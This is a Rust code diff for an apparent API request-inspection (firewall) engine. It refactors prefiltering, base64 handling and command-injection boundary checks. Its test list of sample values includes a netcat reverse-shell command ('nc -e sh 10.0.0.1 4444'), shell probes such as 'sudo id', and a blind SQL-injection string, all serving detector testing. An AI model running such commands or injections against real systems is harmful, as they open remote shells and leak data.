@@ -6,16 +6,17 @@ use std::cell::OnceCell;
 
 use apiguard_model::{Finding, RequestView};
 
-use crate::collect::{self, Anomaly};
+use crate::collect::{self, Anomaly, LiteralHit, Visit};
 use crate::config::{EngineConfig, Mode};
-use crate::detectors::{Boundary, protocol};
+use crate::detectors::protocol::{self, TargetChecks};
+use crate::detectors::{Boundary, cmdi};
 use crate::error::RuleError;
 use crate::evidence::{redact, snippet_around};
 use crate::gate::{Bits, Features};
 use crate::normalize::{self, Transform, apply_chain, base64};
-use crate::rules::fast::FastScratch;
+use crate::rules::fast::{FastScratch, LOWER, Silence, UPPER};
 use crate::rules::{Gate, Rule, RuleSet};
-use crate::target::{Target, TargetKind};
+use crate::target::{LiteralMask, TargetKind, TargetRef};
 
 /// The engine's answer for one request.
 #[derive(Debug, Clone, PartialEq, Eq, Default)]
@@ -85,25 +86,28 @@ impl Engine {
         if self.config.mode == Mode::Off {
             return Verdict::default();
         }
-        let collected = collect::collect(request, &self.config);
-        let mut sink = Sink {
+        let mut run = Run {
             engine: self,
-            findings: Vec::new(),
-            seen: Vec::new(),
+            method: request.method,
+            sink: Sink::new(self),
+            scratch: Scratch::new(self.rules.rules.len()),
+            checks: TargetChecks::new(request),
+            index: 0,
         };
-        let mut anomalies = collected.anomalies.clone();
-        protocol::check(request, &collected, &mut anomalies);
+        let mut collected = collect::collect(request, &self.config, &mut run);
+        let Run {
+            sink: rule_sink,
+            checks,
+            ..
+        } = run;
+        // Protocol and parser findings come first, then the rules' findings per target.
+        let mut anomalies = std::mem::take(&mut collected.anomalies);
+        protocol::check(request, &collected, checks, &mut anomalies);
+        let mut sink = Sink::new(self);
         for anomaly in anomalies {
             sink.anomaly(anomaly);
         }
-        let mut scratch = Scratch {
-            fast: FastScratch::new(self.rules.rules.len()),
-            local: Vec::new(),
-            local_len: 0,
-        };
-        for (index, target) in collected.targets.iter().enumerate() {
-            self.inspect_target(index, target, &mut sink, &mut scratch);
-        }
+        sink.findings.extend(rule_sink.findings);
         let findings = sink.findings;
         let score = findings.iter().fold(0u32, |s, f| s.saturating_add(f.score));
         Verdict {
@@ -116,11 +120,12 @@ impl Engine {
     fn inspect_target(
         &self,
         target_index: usize,
-        target: &Target,
+        target: &TargetRef<'_>,
         sink: &mut Sink<'_>,
         scratch: &mut Scratch,
     ) {
-        if target.value.is_empty() {
+        let value = target.value;
+        if value.is_empty() {
             return;
         }
         let ctx = TargetCtx {
@@ -129,37 +134,92 @@ impl Engine {
             bit: target.group().bit(),
             display: OnceCell::new(),
         };
-        let decoded = normalize::decode(&target.value);
-        self.run_groups(&ctx, &target.value, &decoded, false, sink, scratch);
-        if base64_candidate(target.kind)
-            && decoded.len() >= 8
+        let raw_features = Features::of(value);
+        // Most values are settled by their bytes and literals alone (see `quick_silent`).
+        if self.prefilter
+            && self.rules.quick_silent(
+                ctx.bit,
+                value,
+                &raw_features,
+                target.literals,
+                &mut scratch.fast,
+            )
+            && !base64_possible(target.kind, value, &raw_features)
+        {
+            return;
+        }
+        // The canonical decoding is the identity without escapes, entities, NULs or non-ASCII.
+        let (decoded, features) = if raw_features.non_ascii || raw_features.any(b"%&\\\0") {
+            let decoded = normalize::decode(value);
+            let features = Features::of(&decoded);
+            (decoded, features)
+        } else {
+            (Cow::Borrowed(value), raw_features)
+        };
+        self.run_groups(
+            &ctx,
+            value,
+            &decoded,
+            &features,
+            target.literals,
+            false,
+            sink,
+            scratch,
+        );
+        if base64_possible(target.kind, &decoded, &features)
             && let Some(text) = base64::decode_runs(&decoded, target.kind == TargetKind::Path)
         {
             let text_decoded = normalize::decode(&text);
-            self.run_groups(&ctx, &text, &text_decoded, true, sink, scratch);
+            let text_features = Features::of(&text_decoded);
+            self.run_groups(
+                &ctx,
+                &text,
+                &text_decoded,
+                &text_features,
+                None,
+                true,
+                sink,
+                scratch,
+            );
         }
         // A value that carries its own query string (a URL in a Referer, a form field whose
         // `=` was encoded once more, `a=1&b=2` in a JSON string) reaches an application that
         // splits it again: inspect each embedded argument value on its own too.
-        if embedded_candidate(target.kind) && decoded.contains('=') {
+        if embedded_candidate(target.kind) && features.has(b'=') {
             for sub in embedded_values(&decoded) {
                 let sub_decoded = normalize::decode(sub);
-                self.run_groups(&ctx, sub, &sub_decoded, false, sink, scratch);
+                let sub_features = Features::of(&sub_decoded);
+                self.run_groups(
+                    &ctx,
+                    sub,
+                    &sub_decoded,
+                    &sub_features,
+                    None,
+                    false,
+                    sink,
+                    scratch,
+                );
             }
         }
     }
 
+    /// Runs every rule that may apply to the target on `raw` (decoded: `decoded`, whose
+    /// features are `features`). `literals`, when known, says which prefilter literals occur
+    /// in `decoded` (found by a search over the whole document the value comes from).
+    #[allow(clippy::too_many_arguments)]
     fn run_groups(
         &self,
         ctx: &TargetCtx<'_>,
         raw: &str,
         decoded: &str,
+        features: &Features,
+        literals: Option<LiteralMask>,
         from_base64: bool,
         sink: &mut Sink<'_>,
         scratch: &mut Scratch,
     ) {
         let gate = &self.rules.gate;
-        let features = Features::of(decoded);
+        let features = *features;
         let raw_is_decoded = (std::ptr::eq(raw.as_ptr(), decoded.as_ptr())
             && raw.len() == decoded.len())
             || raw == decoded;
@@ -172,15 +232,20 @@ impl Engine {
         // one byte pass and at most one or two literal searches.
         let mut scanned = false;
         if self.prefilter && raw_is_decoded {
-            if fast.remembered(ctx.bit, decoded) {
-                return;
-            }
-            if self
+            match self
                 .rules
-                .fast_silent(ctx.bit, decoded, &features, fast, &mut scanned)
+                .fast_silent(ctx.bit, decoded, &features, literals, fast, &mut scanned)
             {
-                fast.remember(ctx.bit, decoded);
-                return;
+                Silence::Plain => return,
+                Silence::Worked => {
+                    // Keys and values of structured bodies repeat (arrays of objects); a
+                    // request's headers hardly do.
+                    if repeats(ctx.target.kind) {
+                        fast.remember(ctx.bit, decoded);
+                    }
+                    return;
+                }
+                Silence::Unknown => {}
             }
         }
         let armed = &mut fast.armed;
@@ -353,6 +418,36 @@ impl Engine {
     }
 }
 
+/// One inspection: the collector hands it each target as it is found.
+struct Run<'e, 'r> {
+    engine: &'e Engine,
+    method: &'r http::Method,
+    /// The rules' findings (the protocol checks' come first in the verdict).
+    sink: Sink<'e>,
+    scratch: Scratch,
+    checks: TargetChecks,
+    /// Index of the next target.
+    index: usize,
+}
+
+impl Visit for Run<'_, '_> {
+    fn target(&mut self, target: &TargetRef<'_>) {
+        self.checks.target(self.method, target);
+        let index = self.index;
+        self.index += 1;
+        self.engine
+            .inspect_target(index, target, &mut self.sink, &mut self.scratch);
+    }
+
+    fn literal_hits(&mut self, text: &str, hits: &mut Vec<LiteralHit>) -> bool {
+        if !self.engine.prefilter {
+            return false;
+        }
+        self.engine.rules.literal_hits(text, hits);
+        true
+    }
+}
+
 /// Reusable per-request buffers.
 struct Scratch {
     /// The fast path's buffers; `fast.armed` is the literal scan of the current value.
@@ -370,57 +465,110 @@ struct GateCache {
     features: Features,
 }
 
+impl Scratch {
+    fn new(rule_count: usize) -> Scratch {
+        Scratch {
+            fast: FastScratch::new(rule_count),
+            local: Vec::new(),
+            local_len: 0,
+        }
+    }
+}
+
 /// One target being inspected; its display form (`query:id`) is built only when needed.
 struct TargetCtx<'t> {
     index: usize,
-    target: &'t Target,
+    target: &'t TargetRef<'t>,
     bit: u16,
     display: OnceCell<String>,
 }
 
 impl TargetCtx<'_> {
     fn display(&self) -> &str {
-        self.display.get_or_init(|| self.target.to_string())
+        self.display.get_or_init(|| self.target.display())
     }
 }
 
-/// Arms the rules whose required literals occur in `text` (whose features are `f`).
-pub(crate) fn scan(gate: &Gate, text: &str, f: &Features, armed: &mut Bits) {
-    let Some(ac) = &gate.literals else {
-        return;
+/// Arms the rules whose required literals occur in `text` (whose features are `f`); whether
+/// any literal occurs at all.
+pub(crate) fn scan(gate: &Gate, text: &str, f: &Features, armed: &mut Bits) -> bool {
+    let Some(literals) = &gate.literals else {
+        return false;
     };
     let bytes = text.as_bytes();
-    for m in ac.find_overlapping_iter(text) {
-        for &(rule, boundary) in &gate.literal_rules[m.pattern().as_usize()] {
-            if boundary_holds(boundary, bytes, m.start(), m.end(), f) {
+    let mut any = false;
+    literals.each(bytes, |literal, start, end| {
+        any = true;
+        for &(rule, boundary) in &gate.literal_rules[literal] {
+            if boundary_holds(boundary, bytes, start, end, f) {
                 armed.set(rule);
             }
         }
-    }
+        true
+    });
+    any
 }
 
-fn boundary_holds(
+pub(crate) fn boundary_holds(
     boundary: Boundary,
     bytes: &[u8],
     start: usize,
     end: usize,
     f: &Features,
 ) -> bool {
+    edges_hold(boundary, bytes, start, end)
+        && match boundary {
+            Boundary::None | Boundary::Sql => true,
+            Boundary::SqlCall | Boundary::Paren => f.has(b'('),
+            Boundary::Command | Boundary::CommandWord | Boundary::ShellSyntax => {
+                shell_syntax(f)
+                    || match boundary {
+                        Boundary::Command => cmdi::at_first_word(bytes, start),
+                        Boundary::CommandWord => {
+                            cmdi::at_first_word(bytes, start) && cmdi::has_second_word(bytes)
+                        }
+                        _ => false,
+                    }
+            }
+        }
+}
+
+/// Whether a value (with features `f`) has shell syntax, so that a command word may stand
+/// anywhere in it (see `cmdi::SHELL_SYNTAX`).
+pub(crate) fn shell_syntax(f: &Features) -> bool {
+    const SYNTAX: [u64; 2] = crate::gate::exact_mask(cmdi::SHELL_SYNTAX);
+    f.non_ascii || f.intersects(&SYNTAX)
+}
+
+/// Whether the bytes around a literal found at `bytes[start..end]` satisfy `boundary`'s word
+/// edges (its conditions on the whole value are [`boundary_holds`]'s).
+pub(crate) fn edges_hold(boundary: Boundary, bytes: &[u8], start: usize, end: usize) -> bool {
     let before = start.checked_sub(1).map(|i| bytes[i]);
     let after = bytes.get(end).copied();
     let sql_letter = |b: u8| b.is_ascii_alphabetic() || b == b'_' || b == b'$' || b >= 0x80;
     match boundary {
-        Boundary::None => true,
-        Boundary::Command => {
+        Boundary::None | Boundary::Paren => true,
+        Boundary::Command | Boundary::CommandWord | Boundary::ShellSyntax => {
             !before.is_some_and(|b| b.is_ascii_alphanumeric())
                 && !after.is_some_and(|b| b.is_ascii_alphabetic())
         }
         Boundary::Sql | Boundary::SqlCall => {
-            (boundary == Boundary::Sql || f.has(b'('))
-                && !before.is_some_and(sql_letter)
+            !before.is_some_and(sql_letter)
                 && !after.is_some_and(|b| sql_letter(b) || b.is_ascii_digit())
         }
     }
+}
+
+/// Kinds whose values often repeat within one request (worth remembering as silent).
+fn repeats(kind: TargetKind) -> bool {
+    !matches!(
+        kind,
+        TargetKind::Method
+            | TargetKind::Path
+            | TargetKind::Header
+            | TargetKind::Cookie
+            | TargetKind::CookieName
+    )
 }
 
 /// Most embedded arguments inspected per value.
@@ -474,6 +622,16 @@ pub(crate) fn embedded_values(text: &str) -> impl Iterator<Item = &str> {
         .take(MAX_EMBEDDED)
 }
 
+/// Whether a value of `kind` (features `f`) may hold base64 of text: base64 runs are at least
+/// 8 characters long and mix both letter cases (see `base64::decode_runs`).
+fn base64_possible(kind: TargetKind, value: &str, f: &Features) -> bool {
+    base64_candidate(kind)
+        && value.len() >= 8
+        && f.intersects(&UPPER)
+        && f.intersects(&LOWER)
+        && base64::may_decode(value, kind == TargetKind::Path)
+}
+
 /// Kinds whose values may be base64 of a payload.
 fn base64_candidate(kind: TargetKind) -> bool {
     !matches!(
@@ -500,7 +658,15 @@ struct Sink<'e> {
     seen: Vec<(usize, usize)>,
 }
 
-impl Sink<'_> {
+impl<'e> Sink<'e> {
+    fn new(engine: &'e Engine) -> Sink<'e> {
+        Sink {
+            engine,
+            findings: Vec::new(),
+            seen: Vec::new(),
+        }
+    }
+
     fn has(&self, index: usize, target_index: usize) -> bool {
         self.seen.contains(&(index, target_index))
     }
@@ -627,6 +793,23 @@ mod tests {
         "Ça coûte 5 € (TTC) — merci",
         "ｓｅｌｅｃｔ＊ｆｒｏｍ",
         "ſcript",
+        // Command words where a command may or may not stand, function-call shapes.
+        "ls -la /etc",
+        "sudo id",
+        "ssh-keygen",
+        "id",
+        "order_id",
+        "Please deliver at noon and leave it at the desk",
+        "  nc -e sh 10.0.0.1 4444",
+        "python3.10 -c x",
+        "email",
+        "ord(",
+        "1 and ascii(substr(user(),1,1))>64",
+        "9.5",
+        "127.1/",
+        "alice@example.com",
+        "Blue cotton shirt",
+        "ja va.lang.Runtime",
     ];
 
     fn verdict(engine: &Engine, uri: &str, body: &str, header: &str) -> Verdict {
@@ -781,62 +964,100 @@ mod tests {
 
     /// The fast path only skips values on which no rule fires: on every value of the dev
     /// corpus that it skips (targets, embedded arguments, base64 texts), the whole rule set
-    /// run without any prefilter finds nothing, for plain and for base64-only rules.
+    /// run without any prefilter finds nothing, for plain and for base64-only rules. JSON keys
+    /// and values are judged with the literals the whole-document search found in them, as
+    /// the engine does, and that search must agree with a search of the value itself.
     #[test]
     fn fast_path_never_skips_a_value_on_which_a_rule_fires() {
         let gated = Engine::new(EngineConfig::default(), &[]).expect("engine");
         let mut full = Engine::new(EngineConfig::default(), &[]).expect("engine");
         full.prefilter = false;
         let rule_count = gated.rules.rules.len();
-        let (mut values, mut skipped) = (0usize, 0usize);
+        let (mut values, mut skipped, mut prescanned, mut quick_settled) = (0, 0, 0, 0);
         let found = for_each_corpus_request(|view, line| {
-            let collected = collect::collect(view, &gated.config);
-            for (index, target) in collected.targets.iter().enumerate() {
+            let (targets, _) = collect::collect_owned(view, &gated.config, Some(&gated.rules));
+            for (index, (target, literals)) in targets.iter().enumerate() {
                 if target.value.is_empty() {
                     continue;
                 }
                 let decoded = normalize::decode(&target.value);
-                let mut pieces: Vec<(String, String)> =
-                    vec![(target.value.clone(), decoded.to_string())];
+                let mut pieces: Vec<(String, String, Option<LiteralMask>)> =
+                    vec![(target.value.clone(), decoded.to_string(), *literals)];
                 for sub in embedded_values(&decoded) {
-                    pieces.push((sub.to_string(), normalize::decode(sub).into_owned()));
+                    pieces.push((sub.to_string(), normalize::decode(sub).into_owned(), None));
                 }
                 if let Some(text) = base64::decode_runs(&decoded, target.kind == TargetKind::Path) {
                     let text_decoded = normalize::decode(&text).into_owned();
-                    pieces.push((text, text_decoded));
+                    pieces.push((text, text_decoded, None));
                 }
-                let bit = target.group().bit();
-                for (raw, dec) in &pieces {
+                let view = TargetRef::new(target.kind, &target.name, &target.value);
+                let bit = view.group().bit();
+                for (piece, (raw, dec, literals)) in pieces.iter().enumerate() {
                     values += 1;
                     let features = Features::of(dec);
                     let mut fast = FastScratch::new(rule_count);
                     let mut scanned = false;
-                    if raw != dec
-                        || !gated
-                            .rules
-                            .fast_silent(bit, dec, &features, &mut fast, &mut scanned)
-                    {
+                    if raw != dec {
+                        continue;
+                    }
+                    if let Some(mask) = literals {
+                        prescanned += 1;
+                        // The document search finds what a search of the value finds.
+                        let mut armed = Bits::with_len(rule_count);
+                        scan(&gated.rules.gate, dec, &features, &mut armed);
+                        let plan = &gated.rules.plans[bit.trailing_zeros() as usize];
+                        let own = armed.intersects(&plan.members);
+                        let doc = mask.arms(bit, &features);
+                        assert_eq!(own, doc, "literals of {target} = {raw:?} in {}", line["id"]);
+                    }
+                    let quick = !base64_possible(target.kind, dec, &features)
+                        && gated.rules.quick_silent(
+                            bit,
+                            dec,
+                            &features,
+                            *literals,
+                            &mut FastScratch::new(rule_count),
+                        );
+                    let silence = gated.rules.fast_silent(
+                        bit,
+                        dec,
+                        &features,
+                        *literals,
+                        &mut fast,
+                        &mut scanned,
+                    );
+                    if quick {
+                        quick_settled += 1;
+                        // What the quick check settles, the fast path settles at once too,
+                        // and nothing was split off the value.
+                        assert_eq!(silence, Silence::Plain, "{target} = {raw:?}");
+                        if piece == 0 {
+                            assert_eq!(pieces.len(), 1, "{target} = {raw:?}");
+                        }
+                    }
+                    if silence == Silence::Unknown {
                         continue;
                     }
                     skipped += 1;
-                    let mut sink = Sink {
-                        engine: &full,
-                        findings: Vec::new(),
-                        seen: Vec::new(),
-                    };
-                    let mut scratch = Scratch {
-                        fast: FastScratch::new(rule_count),
-                        local: Vec::new(),
-                        local_len: 0,
-                    };
+                    let mut sink = Sink::new(&full);
+                    let mut scratch = Scratch::new(rule_count);
                     let ctx = TargetCtx {
                         index,
-                        target,
+                        target: &view,
                         bit,
                         display: OnceCell::new(),
                     };
                     for from_base64 in [false, true] {
-                        full.run_groups(&ctx, raw, dec, from_base64, &mut sink, &mut scratch);
+                        full.run_groups(
+                            &ctx,
+                            raw,
+                            dec,
+                            &features,
+                            None,
+                            from_base64,
+                            &mut sink,
+                            &mut scratch,
+                        );
                     }
                     assert!(
                         sink.seen.is_empty(),
@@ -848,8 +1069,11 @@ mod tests {
             }
         });
         if found {
-            eprintln!("fast path: {skipped} of {values} values skipped");
-            assert!(skipped > 0);
+            eprintln!(
+                "fast path: {skipped} of {values} values skipped, {quick_settled} by the quick \
+                 check ({prescanned} judged by a document search)"
+            );
+            assert!(skipped > 0 && prescanned > 0 && quick_settled > 0);
         }
     }
 
